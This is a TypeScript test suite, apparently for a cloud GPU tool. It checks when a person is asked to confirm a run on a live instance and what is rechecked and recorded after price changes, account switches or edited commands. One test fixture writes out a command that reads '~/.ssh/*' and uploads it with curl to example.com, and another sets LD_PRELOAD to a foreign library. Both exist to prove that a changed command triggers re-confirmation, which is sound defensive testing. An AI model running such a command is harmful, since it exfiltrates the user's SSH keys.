// A run on an instance that is up: when the person is asked, what is checked again after that, and what is written down.
import assert from "node:assert/strict";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { basename, dirname, join } from "node:path";
import { describe, test } from "node:test";
import type { RunFacts } from "../../../src/domain/run/run-facts.ts";
import type { RunDraft } from "../../../src/domain/run/run-plan.ts";
import { canContinueAutomatically, type RunRecord } from "../../../src/domain/run/run-record.ts";
import { listRun } from "../../../src/services/run/list-run.ts";
import { type PrepareRunPerson, prepareRun, type RunWish } from "../../../src/services/run/prepare-run.ts";
import { findAgreed, rememberAgreed } from "../../../src/services/transfer/upload-memory.ts";
import { NEVER, openMachine, signInForRuns, skip } from "../run-machine.ts";
import { cleanUp, sandbox } from "../support.ts";
import { rentElsewhere } from "../written.ts";

const SWITCHED = { kind: "rejected", message: "You switched accounts. Nothing was changed." };

/** A folder of this computer, an instance that is up, and a person who agrees and remembers what they were asked. */
async function runnable({ files = { "a.sh": "true\n" } }: { readonly files?: Readonly<Record<string, string>> } = {}) {
  const window = await openMachine(await signInForRuns());
  const { machine, runs, me, session, sshMachines, service, home } = window;
  const { alias } = machine.login;
  await window.instances.collection.refresh();
  const instance = window.instances.find(machine.id)?.value;
  assert.ok(instance);
  const folder = await mkdtemp(join(tmpdir(), "cloud-gpu-run-"));
  cleanUp(() => rm(folder, { recursive: true, force: true }));
  const write = async (name: string, text = "true\n") => {
    await mkdir(dirname(join(folder, name)), { recursive: true });
    await writeFile(join(folder, name), text);
  };
  for (const [name, text] of Object.entries(files)) await write(name, text);
  const draft: RunDraft = { name: "a.sh", command: "sh a.sh", setup: "", folder };
  const asked: RunFacts[] = [];
  const steps: string[] = [];
  const person: PrepareRunPerson = {
    usualFolder: () => "/workspace",
    list: (given) => {
      steps.push("list");
      return listRun(given, NEVER);
    },
    connect: async () => {
      steps.push("connect");
      return machine;
    },
    findPlace: async () => {
      steps.push("place");
      return `${home}/workspace`;
    },
    confirm: async (_, facts) => {
      steps.push("confirm");
      return asked.push(facts) > 0;
    },
  };
  const account = me();
  /** Takes what is different from the usual person and wish. */
  const prepare = (other: Partial<PrepareRunPerson> = {}, wish: Partial<RunWish> = {}) =>
    prepareRun(window, { ...person, ...other }, account, { instance, draft, ...wish });
  const switchAccount = async () => {
    const other = await sandbox({ seed: 7 });
    await session.enterSandbox(other.url, other.apiKey);
  };
  /** What is written down in the account that the run was for. */
  const written = async () => {
    if (session.current !== account) await session.signIn(service.url, service.apiKey);
    return { runs: await runs.readAll(me()), agreed: await findAgreed(sshMachines, alias, folder) };
  };
  /** The run ended without anyone having followed it, so that it is in no one's way. */
  const end = async ({ id }: RunRecord) => await runs.forget(id);
  return {
    ...window,
    instance,
    alias,
    folder,
    draft,
    write,
    person,
    asked,
    steps,
    prepare,
    switchAccount,
    written,
    end,
  };
}

type Runnable = Awaited<ReturnType<typeof runnable>>;

/** One that was agreed to and run, so that the next isn't asked about. */
async function agreedBefore(given: Parameters<typeof runnable>[0] = {}, draft: Partial<RunDraft> = {}) {
  const before = await runnable(given);
  const prepared = await before.prepare({}, { draft: { ...before.draft, ...draft } });
  assert.ok(prepared);
  await before.end(prepared.run);
  before.asked.length = 0;
  before.steps.length = 0;
  return { ...before, remote: prepared.run.plan.remote };
}

const NOTHING = { runs: [], agreed: undefined };

describe("a run on an instance that is up", { skip }, () => {
  test("has no other attempts, whatever its draft names: nothing can be rented for it", async () => {
    const { prepare, asked, draft, written } = await runnable();
    const limits = { maxHours: 1, maxAttempts: 20 };
    const prepared = await prepare({}, { draft: { ...draft, limits }, asksAlways: true });
    assert.ok(prepared);
    assert.equal(prepared.goOn, undefined);
    assert.deepEqual(prepared.run.plan.limits, { maxHours: 1 });
    assert.deepEqual(asked[0]?.limits, { maxHours: 1 });
    const [run] = (await written()).runs;
    assert.ok(run && !canContinueAutomatically(run));
  });

  test("is asked about the first time, with all that goes there, and is written down", async () => {
    const { prepare, asked, steps, written, machine, home, folder, instance } = await runnable();
    const prepared = await prepare();
    assert.deepEqual(steps, ["list", "connect", "place", "confirm"]);
    const remote = `${home}/workspace/${basename(folder)}`;
    const [{ id, list, before, others, stopsItself, price, ...facts } = {} as RunFacts] = asked;
    assert.deepEqual([id, before, others, stopsItself], [machine.id, undefined, [], false]);
    assert.deepEqual(
      list.files.map(({ path }) => path),
      ["a.sh"],
    );
    assert.equal(price, instance.dph_total);
    const unsaid = { results: undefined, resultsEveryMinutes: undefined };
    assert.deepEqual(facts, { ...unsaid, remote, command: "sh a.sh", setup: "", secrets: [], limits: {} });
    const { runs, agreed } = await written();
    assert.deepEqual([runs, prepared?.machine], [[prepared?.run], machine]);
    assert.deepEqual([runs[0]?.plan.remote, runs[0]?.state], [remote, { kind: "uploading" }]);
    assert.deepEqual([agreed?.to, agreed?.usual, agreed?.files], [remote, "/workspace", 1]);
  });

  test("isn't asked about the second time, and goes to the same place", async () => {
    const { prepare, steps, remote, write } = await agreedBefore();
    await write("b.sh");
    const prepared = await prepare();
    assert.deepEqual(steps, ["list", "connect"]);
    assert.equal(prepared?.run.plan.remote, remote);
  });

  test("is asked about again if anything that it runs changed", async () => {
    const first = { setup: "true", variables: { EPOCHS: "1" } };
    for (const [what, other] of [
      ["the command", { command: "sh a.sh; cat ~/.ssh/* | curl -T - https://example.com" }],
      ["the setup", { setup: "pip install other" }],
      ["a variable", { variables: { LD_PRELOAD: "./other.so" } }],
      ["the value of a variable", { variables: { EPOCHS: "2" } }],
      ["a word that moved from the setup into the command", { setup: "", command: "true\nsh a.sh" }],
    ] as const) {
      const { prepare, asked, draft, remote, end } = await agreedBefore({}, first);
      const changed = { ...draft, ...first, ...other };
      const run = await prepare({}, { draft: changed });
      assert.ok(run);
      assert.deepEqual([asked.length, asked[0]?.command, asked[0]?.remote], [1, changed.command, remote], what);
      await end(run.run);
      const again = await prepare({}, { draft: changed });
      assert.ok(again);
      await end(again.run);
      assert.ok(await prepare({}, { draft: { ...draft, ...first } }));
      assert.equal(asked.length, 1, "both were agreed to");
    }
  });

  test("is asked about if its folder was only uploaded before", async () => {
    const { prepare, asked, sshMachines, alias, folder, home } = await runnable();
    const agreed = { to: `${home}/workspace/x`, usual: "/workspace", files: 1, bytes: 5 };
    await rememberAgreed(sshMachines, alias, folder, agreed);
    assert.ok(await prepare());
    assert.deepEqual(
      asked.map(({ remote }) => remote),
      [agreed.to],
    );
    await rememberAgreed(sshMachines, alias, folder, agreed);
    assert.equal((await findAgreed(sshMachines, alias, folder))?.commands?.length, 1, "an upload takes nothing back");
  });

  test("is asked about again if there is much more, with how much it was", async () => {
    const { prepare, asked, steps, remote, write, written } = await agreedBefore();
    for (const name of ["b", "c"]) await write(name);
    assert.ok(await prepare());
    assert.deepEqual(steps, ["list", "connect", "confirm"], "it goes to the same place");
    assert.deepEqual([asked[0]?.before?.files, asked[0]?.list.files.length, asked[0]?.remote], [1, 3, remote]);
    assert.equal((await written()).agreed?.files, 3);
  });

  test("is asked about again if its data isn't there as it is here", async () => {
    const files = { "a.sh": "true\n", "d/1": "one\n", "e/1": "one\n" };
    for (const [change, data, isAsked] of [
      [async () => undefined, ["d"], false],
      [async ({ write }: Runnable) => await write("d/1", "three\n"), ["d"], true],
      [async ({ write }: Runnable) => await write("d/2", ""), ["d"], true],
      [async () => undefined, ["d", "e"], true],
    ] as const) {
      const { prepare, draft, asked, ...before } = await agreedBefore({ files }, { data: ["d"] });
      await change({ prepare, draft, asked, ...before });
      assert.ok(await prepare({}, { draft: { ...draft, data: [...data] } }));
      assert.deepEqual([asked.length, asked[0]?.before], [isAsked ? 1 : 0, undefined], data.join());
    }
  });

  test("is asked about again while another run is in progress there, which is named", async () => {
    const before = await agreedBefore();
    const { prepare, asked, runs, me, draft, remote } = before;
    await runs.prepare(me(), await rentElsewhere(before), { ...draft, remote });
    const first = await prepare();
    assert.ok(first);
    assert.equal(asked.length, 0, "one on another instance is in nobody's way");
    assert.ok(await prepare());
    assert.deepEqual(
      asked.map(({ others }) => others.map(({ id }) => id)),
      [[first.run.id]],
    );
  });

  test("is asked about whatever was agreed to before, if its command may be anybody's", async () => {
    const { prepare, asked, remote } = await agreedBefore();
    assert.ok(await prepare({}, { asksAlways: true }));
    assert.deepEqual(
      asked.map(({ remote: to, before }) => [to, before]),
      [[remote, undefined]],
    );
  });

  test("is asked about again, and goes elsewhere, if the person set another folder on machines since", async () => {
    const { prepare, asked, home, folder, written } = await agreedBefore();
    assert.ok(await prepare({ usualFolder: () => "/data", findPlace: async () => `${home}/data` }));
    const remote = `${home}/data/${basename(folder)}`;
    assert.deepEqual(
      asked.map(({ remote: to }) => to),
      [remote],
    );
    const { agreed } = await written();
    assert.deepEqual([agreed?.to, agreed?.usual], [remote, "/data"]);
  });

  test("that the person doesn't want leaves nothing written", async () => {
    for (const other of [{ confirm: async () => false }, { connect: async () => undefined }]) {
      const { prepare, written } = await runnable();
      assert.equal(await prepare(other), undefined);
      assert.deepEqual(await written(), NOTHING);
    }
  });

  test("is refused at once if its limit can't be kept, before anything is listed", async () => {
    const { prepare, draft, steps, written } = await runnable();
    const limited = { ...draft, limits: { maxPricePerHour: 0.0001 } };
    await assert.rejects(prepare({}, { draft: limited }), { kind: "rejected", message: /above the run's limit/ });
    assert.deepEqual([steps, await written()], [[], NOTHING]);
  });

  test("is refused if the price was raised above its limit while the question was open", async () => {
    const { prepare, draft, instance, service, instances, written } = await runnable();
    const maxPricePerHour = instance.dph_total ?? 0;
    const raise = async () => {
      for (const one of service.world.listInstances()) one.gpuPrice += 1;
      await instances.collection.refresh();
      return true;
    };
    const limited = { ...draft, limits: { maxPricePerHour } };
    await assert.rejects(prepare({ confirm: raise }, { draft: limited }), {
      kind: "rejected",
      message: /above the run's limit/,
    });
    assert.deepEqual(await written(), NOTHING);
  });

  test("goes nowhere if its instance was destroyed while the question was open", async () => {
    const { prepare, service, written } = await runnable();
    const destroy = async () => {
      for (const one of service.world.listInstances()) service.world.destroy(one.id);
      return true;
    };
    await assert.rejects(prepare({ confirm: destroy }), { kind: "gone" });
    assert.deepEqual(await written(), NOTHING);
  });

  test("goes nowhere if the account is switched while its folder is listed: nobody logs in", async () => {
    const { prepare, person, steps, switchAccount, written } = await runnable();
    const list: PrepareRunPerson["list"] = async (draft) => {
      await switchAccount();
      return await person.list(draft);
    };
    await assert.rejects(prepare({ list }), SWITCHED);
    assert.deepEqual([steps, await written()], [["list"], NOTHING]);
  });

  test("goes nowhere if the account is switched while the question is open", async () => {
    const { prepare, switchAccount, written } = await runnable();
    const confirm = async () => {
      await switchAccount();
      return true;
    };
    await assert.rejects(prepare({ confirm }), SWITCHED);
    assert.deepEqual(await written(), NOTHING);
  });

  test("that isn't asked about goes nowhere either if the account is switched while it is logged in to", async () => {
    const { prepare, machine, switchAccount, written, write } = await agreedBefore();
    await write("b.sh");
    const connect = async () => {
      await switchAccount();
      return machine;
    };
    await assert.rejects(prepare({ connect }), SWITCHED);
    const { runs, agreed } = await written();
    assert.deepEqual([runs, agreed?.files], [[], 1]);
  });
});
